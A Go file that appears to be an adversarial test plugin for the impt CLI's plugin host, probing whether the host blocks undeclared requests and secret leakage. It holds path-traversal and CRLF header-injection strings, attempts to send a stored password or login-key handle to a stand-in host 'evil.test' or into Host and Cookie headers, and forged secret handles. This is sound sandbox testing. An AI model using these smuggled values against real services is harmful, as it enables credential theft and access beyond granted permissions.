package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"strings"

	pluginv1 "github.com/electricimp/impt/sdk/proto/impt/plugin/v1"
)

const (
	get   = pluginv1.Method_METHOD_GET
	post  = pluginv1.Method_METHOD_POST
	patch = pluginv1.Method_METHOD_PATCH
	put   = pluginv1.Method_METHOD_PUT
	del   = pluginv1.Method_METHOD_DELETE
)

// ask makes one request to impCentral.
func (c *call) ask(ctx context.Context, m pluginv1.Method, body string, path []string, headers ...*pluginv1.SecretHeader) (string, error) {
	a, err := c.host.Call(ctx, &pluginv1.CallRequest{Method: m, Path: path, Body: []byte(body), SecretHeaders: headers})
	return string(a.GetBody()), err
}

func (c *call) trial(ctx context.Context, m pluginv1.Method, path ...string) {
	got, err := c.ask(ctx, m, "", path)
	c.tried(fmt.Sprint(m, " ", strings.Join(path, " ")), got, err)
}

// beg asks for everything, with a manifest that declares nothing.
func beg(ctx context.Context, c *call) error {
	for _, m := range []pluginv1.Method{0, get, post, patch, put, del, 99} {
		for _, path := range [][]string{
			{}, {"auth"}, {"auth", "token"}, {"accounts"}, {"accounts", "me"}, {"accounts", "me", "login_keys"},
			{"accounts", "me", "refresh_tokens"}, {"products"}, {"devicegroups"}, {"devices", "d-1", "logs"}, {"devices"},
			{"deployments"}, {"webhooks"}, {"logstream"}, {"logstream", "x"}, {"whatever"},
		} {
			c.trial(ctx, m, path...)
		}
	}
	for _, t := range []string{"account", "product", "devicegroup", "device", "deployment", "webhook", "login_key", "", "refresh_token"} {
		found, err := c.host.Resolve(ctx, &pluginv1.ResolveRequest{Type: t, Identifier: "me"})
		c.tried("resolve "+t, found, err)
		found, err = c.host.Resolve(ctx, &pluginv1.ResolveRequest{Type: t, Identifier: "{ann}{Home}{Kitchen}", All: true})
		c.tried("resolve all "+t, found, err)
		found, err = c.host.Resolve(ctx, &pluginv1.ResolveRequest{Type: t, ProjectDefault: true})
		c.tried("resolve default "+t, found, err)
		fetched, err := c.host.Fetch(ctx, &pluginv1.FetchRequest{Type: t, Ids: []string{"me"}})
		c.tried("fetch "+t, fetched, err)
		_, err = c.collect(ctx, t)
		c.tried("collect "+t, "", err)
	}
	follow, err := c.host.Follow(ctx, &pluginv1.FollowRequest{Devices: []string{"d-1"}})
	if err == nil {
		_, err = follow.Recv()
	}
	c.tried("follow", "", err)
	for what, f := range map[string]func() error{
		"auth status": func() error { _, err := c.host.AuthStatus(ctx, &pluginv1.AuthStatusRequest{}); return err },
		"login": func() error {
			_, err := c.host.Login(ctx, &pluginv1.LoginRequest{Scope: 1, Endpoint: "http://evil.test", User: "ann"})
			return err
		},
		"logout":  func() error { _, err := c.host.Logout(ctx, &pluginv1.LogoutRequest{Scope: 1}); return err },
		"project": func() error { _, err := c.host.Project(ctx, &pluginv1.ProjectRequest{}); return err },
		"save project": func() error {
			_, err := c.host.SaveProject(ctx, &pluginv1.SaveProjectRequest{DeviceGroupId: "x"})
			return err
		},
		"delete project": func() error { _, err := c.host.DeleteProject(ctx, &pluginv1.DeleteProjectRequest{}); return err },
		"try project":    func() error { _, err := c.host.TryProject(ctx, &pluginv1.TryProjectRequest{}); return err },
		"interrupt":      func() error { _, err := c.host.AwaitInterrupt(ctx, &pluginv1.AwaitInterruptRequest{}); return err },
		"next page": func() error {
			_, err := c.host.Ask(ctx, &pluginv1.AskRequest{Question: &pluginv1.AskRequest_NextPage{NextPage: &pluginv1.NextPage{}}})
			return err
		},
	} {
		c.tried(what, "", f())
	}
	return nil
}

func (c *call) collect(ctx context.Context, t string) (int, error) {
	pages, err := c.host.Collect(ctx, &pluginv1.CollectRequest{Type: t})
	if err != nil {
		return 0, err
	}
	for n := 0; ; n++ {
		_, err := pages.Recv()
		if errors.Is(err, io.EOF) {
			return n, nil
		}
		if err != nil {
			return n, err
		}
	}
}

// smuggle may read products, and tries to reach more by it.
func smuggle(ctx context.Context, c *call) error {
	for _, path := range [][]string{
		{"products", "..", "accounts", "me", "refresh_tokens"},
		{"products", ".", "..", "accounts", "me"},
		{"products", "../accounts/me/refresh_tokens"},
		{"products", "..%2faccounts%2fme"},
		{"products", "%2e%2e", "accounts"},
		{"products", "..\\accounts"},
		{"products", "", "..", "accounts"},
		{"", "accounts", "me"},
		{"products/../accounts/me"},
		{"products", "x?filter[owner.id]=me"},
		{"products", "x#"},
		{"products", "x\r\nX-Evil: 1"},
		{"products", "x\x00"},
		{"http://evil.test/products"},
		{"http:", "", "evil.test"},
		{"//evil.test", "products"},
		{"products", "//evil.test/"},
		{"products", "http://evil.test/"},
		{"products", "@evil.test"},
		{"Products"}, {"PRODUCTS", "x"}, {"products "}, {"accounts", "me"}, {"accounts"},
	} {
		c.trial(ctx, get, path...)
	}
	for _, m := range []pluginv1.Method{post, patch, put, del} {
		c.trial(ctx, m, "products")
		c.trial(ctx, m, "products", "p-1")
	}
	for _, identifier := range []string{"..", ".", "../accounts/me", "..%2faccounts", "http://evil.test", "x\r\nX-Evil: 1"} {
		found, err := c.host.Resolve(ctx, &pluginv1.ResolveRequest{Type: "product", Identifier: identifier})
		c.tried("resolve "+identifier, found.GetResources(), err)
		fetched, err := c.host.Fetch(ctx, &pluginv1.FetchRequest{Type: "product", Ids: []string{identifier}, Full: true})
		c.tried("fetch "+identifier, fetched.GetResources(), err)
	}
	password := c.values["pwd"].GetSecret()
	for _, name := range []string{
		"Authorization", "Host", "Cookie", "X-Forwarded-Host", "x-electricimp-key", "X-Electricimp-Key\r\nX-Evil", "",
	} {
		got, err := c.ask(ctx, get, "", []string{"products"}, &pluginv1.SecretHeader{Name: name, Secret: password})
		c.tried("header "+name, got, err)
	}
	for what, s := range map[string]*pluginv1.Secret{
		"no": nil, "empty": {}, "made-up": {Handle: "AAAAAAAAAAAAAAAAAAAAAAAAAA"}, "short": {Handle: password.GetHandle()[:25]},
	} {
		got, err := c.ask(ctx, get, "", []string{"products"}, &pluginv1.SecretHeader{Name: "X-Electricimp-Key", Secret: s})
		c.tried("handle "+what, got, err)
	}
	got, err := c.ask(ctx, get, "", []string{"products"}, &pluginv1.SecretHeader{Name: "X-Electricimp-Key", Secret: password})
	c.tried("redirected", got, err)
	return nil
}

// keys may change login keys, and tries to see one.
func keys(ctx context.Context, c *call) error {
	path := []string{"accounts", "me", "login_keys"}
	list, err := c.ask(ctx, get, "", path)
	c.tried("list", list, err)
	pages, err := c.host.Collect(ctx, &pluginv1.CollectRequest{Type: "login_key"})
	if err != nil {
		return err
	}
	page, err := pages.Recv()
	if err != nil {
		return err
	}
	c.tried("collect", texts(page.GetResources()), nil)
	theirs := c.values["lk"].GetSecret().GetHandle()
	c.tried("option", theirs, nil)

	password := &pluginv1.SecretHeader{Name: "X-Electricimp-Password", Secret: c.values["pwd"].GetSecret()}
	// What is revealed in a request must not come back in an answer.
	body := `{"data":{"type":"login_key","attributes":{"description":"it is ` + theirs + `!"}}}`
	made, err := c.ask(ctx, post, body, path, password)
	c.tried("create", made, err)
	changed, err := c.ask(ctx, patch, body, append(path, theirs), password)
	c.tried("change", changed, err)
	again, err := c.ask(ctx, get, "", path)
	c.tried("list again", again, err)
	one, err := c.ask(ctx, get, "", append(path, theirs))
	c.tried("one", one, err)
	found, err := c.host.Resolve(ctx, &pluginv1.ResolveRequest{Type: "login_key", Identifier: theirs, Full: true})
	c.tried("resolve", texts(found.GetResources()), err)
	found, err = c.host.Resolve(ctx, &pluginv1.ResolveRequest{Type: "login_key", Identifier: "x" + theirs + "x"})
	c.tried("resolve around", texts(found.GetResources()), err)
	fetched, err := c.host.Fetch(ctx, &pluginv1.FetchRequest{Type: "login_key", Ids: []string{theirs, "no-" + theirs}, Full: true})
	c.tried("fetch", strings.Join(fetched.GetMissing(), " ")+texts(fetched.GetResources()), err)
	pages, err = c.host.Collect(ctx, &pluginv1.CollectRequest{
		Type: "login_key", Filters: []*pluginv1.Filter{{Name: theirs, Value: theirs}},
	})
	if err == nil {
		page, err = pages.Recv()
	}
	c.tried("filter", texts(page.GetResources()), err)
	gone, err := c.ask(ctx, get, "", append(path, "x"+theirs))
	c.tried("gone", gone, err)
	// impCentral may well quote a key when it refuses something.
	refused, err := c.ask(ctx, del, "", append(path, theirs), password)
	c.tried("refused", refused, err)
	// A handle is no identifier of anything else.
	_, err = c.ask(ctx, get, "", []string{"products", theirs})
	c.tried("elsewhere", "", err)
	// A question may not turn the key into a text.
	_, err = c.host.Ask(ctx, &pluginv1.AskRequest{Option: theirs, Question: &pluginv1.AskRequest_Line{Line: &pluginv1.Line{What: theirs}}})
	c.tried("ask", "", err)
	return nil
}

func texts(all [][]byte) string {
	var b strings.Builder
	for _, t := range all {
		b.Write(t)
	}
	return b.String()
}
